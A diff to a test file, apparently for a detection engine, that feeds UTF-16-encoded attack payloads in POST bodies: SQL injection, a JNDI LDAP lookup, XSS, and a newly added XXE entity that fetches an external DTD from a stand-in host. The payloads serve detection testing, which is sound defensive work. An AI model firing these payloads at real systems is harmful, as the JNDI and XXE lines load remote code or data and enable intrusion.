@@ -60,6 +60,8 @@ describe('request bodies in UTF-16', () => {
       ['application/json; charset=utf-16le', le(JSON.stringify({ q: "' OR '1'='1' --" }))],
       ['application/json', le(JSON.stringify({ q: '${jndi:ldap://203.0.113.9/a}' }))],
       ['application/x-www-form-urlencoded; charset=utf-16be', be(`q=${encodeURIComponent('<script>alert(1)</script>')}`)],
+      // XML in UTF-16 without a byte-order mark or label: its `<` shows the byte order, as XML parsers read it
+      ['text/xml', be('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % d SYSTEM "http://203.0.113.9/x.dtd">%d;]><r/>')],
     ] as const) {
       const events = engine.analyze(buildExchange({ method: 'POST', target: '/api', requestHeaders: [['Content-Type', type]], requestBody: body }), {
         sensorId: 's',
